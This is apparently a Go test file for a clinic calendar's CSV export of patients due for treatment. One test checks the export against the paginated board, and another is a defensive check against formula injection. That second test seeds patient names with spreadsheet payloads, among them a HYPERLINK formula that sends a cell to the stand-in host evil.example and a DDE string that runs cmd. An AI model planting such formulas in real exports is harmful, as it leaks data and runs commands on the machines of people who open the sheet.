package api_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/afterglow-calendar/afterglow/internal/apptest"
)

// due is the list of who is due as a spreadsheet reads it: rows by their columns.
func dueList(t *testing.T, c *apptest.Clinic, query string) (rows []map[string]string) {
	t.Helper()
	answer := c.Get("/due.csv" + query).Want(http.StatusOK)
	if kind := answer.Header.Get("Content-Type"); !strings.HasPrefix(kind, "text/csv") {
		t.Errorf("is of type %s", kind)
	}
	lines, err := csv.NewReader(strings.NewReader(string(answer.Body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range lines[1:] {
		row := map[string]string{}
		for i, name := range lines[0] {
			row[name] = line[i]
		}
		rows = append(rows, row)
	}
	return rows
}

// Treated 100 days ago: in the window today.
func treatedLongAgo(c *apptest.Clinic, name string) *apptest.Patient {
	p := c.AddPatient(name)
	p.Treat(c.Clock.Now().AddDate(0, 0, -100).Format("2006-01-02"))
	return p
}

func TestTheListOfWhoIsDueIsTheWholeBoard(t *testing.T) {
	c := apptest.Start(t).AddClinic("Harbour")
	for i := range 60 { // more than a page of the board
		treatedLongAgo(c, fmt.Sprintf("Patient %d", i))
	}
	var board struct {
		Items []struct {
			PatientID string `json:"patient_id"`
		}
	}
	c.Get("/due?limit=500").Want(http.StatusOK).Into(&board)
	rows := dueList(t, c, "")
	if len(rows) != 60 || !slices.EqualFunc(rows, board.Items, func(row map[string]string, item struct {
		PatientID string `json:"patient_id"`
	}) bool {
		return row["patient_id"] == item.PatientID
	}) {
		t.Errorf("%d rows, and the board has %d", len(rows), len(board.Items))
	}
	if row := rows[0]; row["states"] != "open" || row["zones"] != "glabella" || row["last_visit"] == "" || row["to"] == "" || row["why"] == "" {
		t.Errorf("%v", row)
	}
	if rows := dueList(t, c, "?state=lapsed"); len(rows) != 0 {
		t.Errorf("%d are in another state", len(rows))
	}
	c.Get("/due.csv?state=nothing").Want(http.StatusUnprocessableEntity)
}

// A patient gives her own name, and a cell that is a formula sends a whole sheet away.
func TestNoNameBecomesAFormulaInTheListOfWhoIsDue(t *testing.T) {
	c := apptest.Start(t).AddClinic("Harbour")
	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"x")`, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", `"=1+1`, "Ada, \"=2\""}
	for _, name := range hostile {
		treatedLongAgo(c, name)
	}
	rows := dueList(t, c, "")
	for _, name := range hostile {
		at := slices.IndexFunc(rows, func(row map[string]string) bool { return strings.TrimPrefix(row["name"], "'") == name })
		if at < 0 {
			t.Errorf("%q is not in the list", name)
			continue
		}
		if strings.ContainsAny(rows[at]["name"][:1], "=+-@") {
			t.Errorf("%q is a formula", rows[at]["name"])
		}
	}
}
